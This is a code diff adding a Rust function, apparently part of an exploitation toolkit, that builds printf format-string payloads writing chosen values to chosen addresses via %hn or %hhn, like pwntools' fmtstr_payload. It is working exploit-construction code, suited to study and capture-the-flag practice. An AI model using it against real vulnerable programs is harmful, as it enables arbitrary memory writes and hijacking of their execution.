@@ -0,0 +1,95 @@
+/// How many bytes each `%n` of a [`fmtstr_payload`] writes.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub enum WriteSize {
+    /// `%hhn`, one byte per write. Each `%c` pads at most 255 characters, so the target prints
+    /// little.
+    Byte,
+    /// `%hn`, two bytes per write. Half as many addresses as [`Byte`](WriteSize::Byte), but the
+    /// target may print up to 65535 characters per write.
+    #[default]
+    Short,
+}
+impl WriteSize {
+    fn bytes(self) -> usize {
+        match self {
+            Self::Byte => 1,
+            Self::Short => 2,
+        }
+    }
+
+    fn specifier(self) -> &'static str {
+        match self {
+            Self::Byte => "hhn",
+            Self::Short => "hn",
+        }
+    }
+}
+
+/**
+Builds a format string that makes `printf` write each `(address, value)` pair of `writes`, like
+pwntools' `fmtstr_payload`.
+
+`offset` is the index of the `printf` argument that holds the first `width` bytes of the payload,
+i.e. the `N` for which `%N$p` prints the start of the buffer. `width` is the pointer width of the
+target (4 or 8); every value is written in `width` bytes and every address is packed
+little-endian in `width` bytes. The writes are ordered by value so the number of printed
+characters only grows, and the addresses go at the end of the payload so their null bytes do not
+cut the format string short.
+
+Panics if `width` is not 4 or 8.
+
+```
+use engine::util::{fmtstr_payload, WriteSize};
+
+let payload = fmtstr_payload(vec![(0x404018, 0x401136)], 6, 8, WriteSize::Short);
+assert!(payload.starts_with(b"%"));
+assert_eq!(payload.len() % 8, 0);
+```
+*/
+pub fn fmtstr_payload(
+    writes: Vec<(u64, u64)>,
+    offset: usize,
+    width: usize,
+    size: WriteSize,
+) -> Vec<u8> {
+    assert!(width == 4 || width == 8, "pointer width must be 4 or 8, not {}", width);
+
+    let step = size.bytes();
+    let mask = (1u64 << (8 * step)) - 1;
+    let mut parts: Vec<(u64, u64)> = writes
+        .into_iter()
+        .flat_map(|(address, value)| {
+            (0..width / step).map(move |i| {
+                (address.wrapping_add((i * step) as u64), (value >> (8 * i * step)) & mask)
+            })
+        })
+        .collect();
+    parts.sort_by_key(|&(_, value)| value);
+
+    // The argument indices of the addresses depend on how long the format string is, and so on
+    // how many digits those indices have; grow the guess until it stops changing.
+    let mut words = 0;
+    let format = loop {
+        let mut format = String::new();
+        let mut printed = 0;
+        for (index, &(_, value)) in parts.iter().enumerate() {
+            if value > printed {
+                format += &format!("%{}c", value - printed);
+                printed = value;
+            }
+            format += &format!("%{}${}", offset + words + index, size.specifier());
+        }
+        let needed = format.len().div_ceil(width);
+        if needed <= words {
+            break format;
+        }
+        words = needed;
+    };
+
+    let mut r = format.into_bytes();
+    r.resize(words * width, b'a');
+    for (address, _) in parts {
+        r.extend_from_slice(&address.to_le_bytes()[..width]);
+    }
+    r
+}